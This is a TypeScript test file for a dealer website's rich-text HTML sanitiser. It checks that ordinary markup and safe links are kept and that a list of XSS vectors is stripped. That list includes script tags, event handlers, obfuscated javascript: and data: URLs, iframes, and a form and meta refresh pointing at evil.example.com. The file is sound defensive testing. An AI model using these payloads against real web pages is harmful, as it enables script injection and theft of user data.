import { describe, expect, it } from 'vitest';
import { sanitizeRichText } from './sanitize';

const links = { href: (path: string) => `/sites/bayside-motors${path}` };
const clean = (html: string) => sanitizeRichText(html, links);

describe('rich text sanitiser: what dealers may write', () => {
  it('keeps headings, paragraphs, lists, emphasis and tables as written', () => {
    const html =
      '<h2>Why buy from us</h2><p>We are <strong>family owned</strong> and <em>local</em>.</p>' +
      '<ul><li>Free first service</li></ul><ol><li>Choose</li></ol>' +
      '<table><caption>Hours</caption><thead><tr><th scope="col">Day</th></tr></thead><tbody><tr><td colspan="2">Mon</td></tr></tbody></table>';
    expect(clean(html)).toBe(html);
  });

  it('makes site paths into links for this site and leaves mail, phone and https links alone', () => {
    expect(clean('<a href="/finance">Finance</a>')).toBe('<a href="/sites/bayside-motors/finance">Finance</a>');
    expect(clean('<a href="mailto:sales@bayside.com.au">Email</a>')).toBe('<a href="mailto:sales@bayside.com.au">Email</a>');
    expect(clean('<a href="tel:0395550100">Call</a>')).toBe('<a href="tel:0395550100">Call</a>');
    expect(clean('<a href="https://www.toyota.com.au">Toyota</a>')).toBe('<a href="https://www.toyota.com.au" rel="noopener">Toyota</a>');
  });

  it('adds rel="noopener" to links that open a new tab, replacing whatever rel was written', () => {
    expect(clean('<a href="/offers" target="_blank" rel="opener">Offers</a>')).toBe('<a href="/sites/bayside-motors/offers" target="_blank" rel="noopener">Offers</a>');
    expect(clean('<a href="/offers" target="_top">Offers</a>')).toBe('<a href="/sites/bayside-motors/offers">Offers</a>');
  });

  it('keeps https and relative pictures, giving an empty alt where none was written', () => {
    expect(clean('<img src="https://cdn.example.com/a.jpg" alt="Showroom" width="600" />')).toBe('<img src="https://cdn.example.com/a.jpg" alt="Showroom" width="600" />');
    expect(clean('<img src="/media/a.jpg">')).toBe('<img src="/media/a.jpg" alt="" />');
  });
});

describe('rich text sanitiser: XSS vectors', () => {
  const vectors: [string, string][] = [
    ['a script element and its text', '<p>Hi</p><script>alert(1)</script>'],
    ['an img onerror handler', '<img src="https://cdn.example.com/x.jpg" onerror="alert(1)">'],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a>'],
    ['a javascript: link in mixed case with spaces', '<a href="  JaVaScRiPt:alert(1)">x</a>'],
    ['a javascript: link hidden behind entities', '<a href="&#106;avascript&#58;alert(1)">x</a>'],
    ['a javascript: link split by a tab', '<a href="java\tscript:alert(1)">x</a>'],
    ['a data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
    ['a javascript: picture', '<img src="javascript:alert(1)">'],
    ['an inline svg with onload', '<svg onload="alert(1)"><circle r="1"/></svg>'],
    ['an iframe', '<iframe src="https://evil.example.com"></iframe>'],
    ['an object', '<object data="https://evil.example.com/x.swf"></object>'],
    ['a style element', '<style>body{display:none}</style>'],
    ['a style attribute', '<p style="background:url(javascript:alert(1))">x</p>'],
    ['an onclick on a paragraph', '<p onclick="alert(1)">x</p>'],
    ['a form posting elsewhere', '<form action="https://evil.example.com"><input name="card"></form>'],
    ['a base element', '<base href="https://evil.example.com/">'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example.com">'],
    ['a protocol-relative link', '<a href="//evil.example.com">x</a>'],
    ['a script smuggled in a broken tag', '<scr<script>ipt>alert(1)</script>'],
  ];

  it.each(vectors)('removes %s', (_name, html) => {
    const result = clean(html);
    expect(result).not.toMatch(/<script|<iframe|<object|<svg|<style|<form|<input|<base|<meta/i);
    expect(result).not.toMatch(/\son\w+=/i);
    expect(result).not.toMatch(/javascript:|vbscript:|data:|style=|\/\/evil/i);
    expect(result).not.toContain('alert(1)</');
  });

  it("drops the script's text with it, and a picture whose address was unsafe", () => {
    expect(clean('<p>Hi</p><script>alert(1)</script>')).toBe('<p>Hi</p>');
    expect(clean('<img src="javascript:alert(1)">')).toBe('');
    expect(clean('<img src="http://insecure.example.com/a.jpg" alt="A">')).toBe('');
  });

  it('keeps the words of an unsafe link but not its address', () => {
    expect(clean('<a href="javascript:alert(1)">Click</a>')).toBe('<a>Click</a>');
  });
});
